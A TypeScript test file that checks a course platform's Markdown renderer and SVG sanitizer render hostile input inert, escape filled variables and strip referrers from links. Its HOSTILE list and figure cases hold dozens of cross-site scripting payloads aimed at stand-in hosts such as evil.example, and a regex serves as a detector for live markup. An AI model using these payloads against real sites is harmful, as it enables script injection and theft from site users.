import { describe, expect, test } from 'vitest';
import { fillVariables } from '../../../server/catalog/markdown/variables.ts';
import { renderMarkdown, type MarkdownContext } from '../../../server/catalog/markdown/render.ts';
import { sanitizeSvg } from '../../../server/catalog/markdown/sanitize.ts';
import { ProblemList } from '../../../server/catalog/problems.ts';
import type { PriceFile } from '../../../server/catalog/prices.ts';
import { smallCatalog } from '../../helpers/server/app.ts';

const prices: PriceFile = {
  region: 'us-east-1',
  currency: 'USD',
  hoursPerMonth: 730,
  reviewed: '2026-11',
  sources: {},
  prices: { s3: { standard: { usd: 0.023, unit: 'GB-month', source: 'x', date: '2026-08' } } },
};

function render(source: string, more: Partial<MarkdownContext> = {}) {
  const problems = new ProblemList();
  const place = (line: number, column: number) => ({ file: 'x.md', line: line + 1, column: column + 1 });
  const rendered = renderMarkdown(source, { problems, prices, place, ...more });
  return { ...rendered, problems: problems.sorted() };
}

/** What a browser would run, load or be styled by. */
const LIVE =
  /<(script|style|iframe|object|embed|form|button|base|meta|link|img|image|video|audio|svg|math|foreignobject|template|animate|set)\b|\son\w+\s*=|\sstyle\s*=|javascript:|vbscript:|data:text|srcdoc|<!--|xlink:href|formaction/i;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/x)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '![x" onerror="alert(1)](figures/x.svg)',
  '![x](x"onerror="alert(1))',
  '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<form action=https://evil.example><input name=a></form>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '`<img src=x onerror=alert(1)>`',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '```bash file="><img src=x onerror=alert(1)>"\nls\n```',
  '```bash norun="<img src=x onerror=alert(1)>"\nls\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '{{price "><script>alert(1)</script>}}',
  '{{price s3 standard}}<script>alert(1)</script>',
  ':::lab x"><script>alert(1)</script>/y\nx\n:::',
  ':::check\n<img src=x onerror=alert(1)>\n:::reveal\n[x](javascript:alert(1))\n:::',
  '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  '> [!NOTE" onclick="alert(1)]\n> x',
  '## <img src=x onerror=alert(1)>',
  '## x" onclick="alert(1)',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '<figure class="figure" data-figure="x"><script>alert(1)</script></figure>',
  '\uE000\uE161\uE001<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>',
];

describe('hostile Markdown is inert', () => {
  const lesson: Partial<MarkdownContext> = {
    lesson: true,
    lab: () => undefined,
    figure: () => '<svg class="figure-svg"></svg>',
  };
  test.each(HOSTILE)('%j', (source) => {
    for (const inline of [false, true]) {
      for (const context of [{}, lesson, { variables: new Set(['a']) }]) {
        const problems = new ProblemList();
        const place = (line: number, column: number) => ({
          file: 'x.md',
          line: line + 1,
          column: column + 1,
        });
        const { html } = renderMarkdown(source, { problems, prices, place, ...context }, inline);
        const text = fillVariables(html, { a: '<script>alert(1)</script>' }).replaceAll(
          '<svg class="figure-svg"></svg>',
          '',
        );
        // Escaped text may say anything; only what is markup counts.
        const markup = [...text.matchAll(/<[^>]*>/g)]
          .map(([tag]) =>
            tag.replace(/"[^"]*"/g, (value) => (/javascript|vbscript|data:/i.test(value) ? value : '""')),
          )
          .join('');
        expect(markup).not.toMatch(LIVE);
      }
    }
  });
  test('raw HTML is also an error of the author', () => {
    expect(render('<b>x</b>').problems.map(({ message }) => message)).toEqual([
      'raw HTML `<b>`',
      'raw HTML `</b>`',
    ]);
  });
});

describe('hostile figures', () => {
  test.each([
    ['<svg onload="alert(1)"><path d="M0 0"/></svg>', 'onload="alert(1)"'],
    ['<svg><script>alert(1)</script></svg>', '<script>'],
    ['<svg><style>*{color:red}</style></svg>', '<style>'],
    ['<svg><rect style="fill:red"/></svg>', 'style="fill:red"'],
    ['<svg><foreignObject><body onload="alert(1)"/></foreignObject></svg>', '<foreignObject>'],
    ['<svg><image href="https://evil.example/x.png"/></svg>', '<image>'],
    ['<svg><use href="https://evil.example/x.svg#a"/></svg>', 'href="https://evil.example/x.svg#a"'],
    ['<svg><use xlink:href="data:image/svg+xml,x"/></svg>', 'xlink:href="data:image/svg+xml,x"'],
    ['<svg><rect fill="url(https://evil.example/x)"/></svg>', 'fill="url(https://evil.example/x)"'],
    ['<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<a>'],
    ['<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', '<animate>'],
    ['<svg><set attributeName="onclick" to="alert(1)"/></svg>', '<set>'],
  ])('%s', (source, told) => {
    const { svg, refused } = sanitizeSvg(source, 'figure-x', 'A "quoted" <alternative>');
    expect(refused).toContain(told);
    expect(svg).not.toMatch(/on\w+=|<script|<style|style=|foreignObject|evil|javascript|data:/i);
  });
  test('ids are made unique and references follow; the alternative is the accessible name', () => {
    const source =
      '<svg viewBox="0 0 1 1" aria-labelledby="t"><title id="t">T</title><linearGradient id="g"/><rect fill="url(#g)" clip-path="url(\'#g\')"/><use href="#g"/></svg>';
    const { svg, refused } = sanitizeSvg(source, 'figure-x', 'What "it" shows & more');
    expect(refused).toEqual([]);
    expect(svg).toContain('viewBox="0 0 1 1"');
    expect(svg).toContain('role="img" aria-label="What &quot;it&quot; shows &amp; more"');
    expect(svg).toContain('<linearGradient id="figure-x-g">');
    expect(svg.match(/url\(#figure-x-g\)/g)).toHaveLength(2);
    expect(svg).toContain('href="#figure-x-g"');
    expect(svg).not.toContain('aria-labelledby');
  });
});

describe('what a lesson may use', () => {
  test('everything of format.md, rendered with classes only', async () => {
    const lesson = (await smallCatalog()).lessons.get('storage');
    const html = lesson?.html ?? '';
    expect(html).not.toMatch(/style=|<script/);
    expect(html).toContain('<h2 id="buckets">Buckets</h2>');
    expect(html).toContain('<div class="markdown-alert markdown-alert-warning">');
    expect(html).toContain('data-kind="run"><pre tabindex="0"><code class="hljs language-bash">');
    expect(html).toContain('<span class="hljs-variable">$ACCOUNT</span>');
    expect(html).toContain('Not run by the tests of this course: needs a terabyte');
    expect(html).toContain('<figcaption><code>policy.json</code></figcaption>');
    expect(html).toMatch(
      /<section class="self-check">[^]*<details class="self-check-answer"><summary>Show the answer<\/summary>/,
    );
    expect(html).toContain('<a href="/labs/tiny-bucket/make-bucket">');
    expect(html).toContain('aria-label="A bucket with three objects"');
    expect(html).toContain('>$115.00</data>');
    expect(html).toContain('value="0.0000004"');
    expect(html).toContain('<code>{{price s3 standard}}</code>');
    expect(html).not.toContain('covers');
    expect(lesson?.priceDate).toBe('2025-07');
    expect(lesson?.toc).toEqual([
      { id: 'buckets', text: 'Buckets', depth: 2 },
      { id: 'prices', text: 'Prices', depth: 2 },
    ]);
    const intro = (await smallCatalog()).lessons.get('intro');
    expect(intro?.html).toContain('<a href="/lessons/storage#prices">storage</a>');
  });
  test('external links do not tell where they came from', () => {
    expect(render('[x](https://a.example/?a=1&b="2")').html).toBe(
      '<p><a href="https://a.example/?a=1&amp;b=&quot;2&quot;" rel="noopener noreferrer">x</a></p>',
    );
  });
  test('a directive ends at its own line, not at one inside code', () => {
    const { html, problems } = render(':::check\nQ\n\n```text\n:::\n```\n:::reveal\nA\n:::\n\nAfter.', {
      lesson: true,
      lab: () => undefined,
    });
    expect(problems).toEqual([]);
    expect(html).toContain('<code class="hljs language-text">:::\n</code>');
    expect(html).toMatch(/<\/section>\s*<p>After\.<\/p>$/);
  });
});

describe('variables', () => {
  const variables = new Set(['bucket', 'days']);
  test('are filled, escaped, in text, code and highlighted code, for each learner', () => {
    const { html, problems } = render(
      'Bucket `{{bucket}}`, {{ days }} days.\n\n```bash\naws s3 ls s3://{{bucket}}\n```\n\n```json\n{ "Bucket": "{{bucket}}" }\n```',
      { variables },
    );
    expect(problems).toEqual([]);
    const filled = fillVariables(html, { bucket: '<b>"x"&', days: 30 });
    expect(filled).toContain('Bucket <code>&lt;b&gt;&quot;x&quot;&amp;</code>, 30 days.');
    expect(filled.match(/&lt;b&gt;&quot;x&quot;&amp;/g)).toHaveLength(3);
    expect(filled).not.toMatch(/[\uE000-\uF8FF]|<b>/);
    expect(fillVariables(html, { bucket: 'other', days: 1 })).toContain('<code>other</code>, 1 days');
  });
  test('an unknown one is an error with its place', () => {
    const { problems } = render('x\n\nand {{nope}}', { variables, prices: null });
    expect(problems).toMatchObject([{ line: 3, column: 5, message: 'unknown variable "nope"' }]);
  });
});
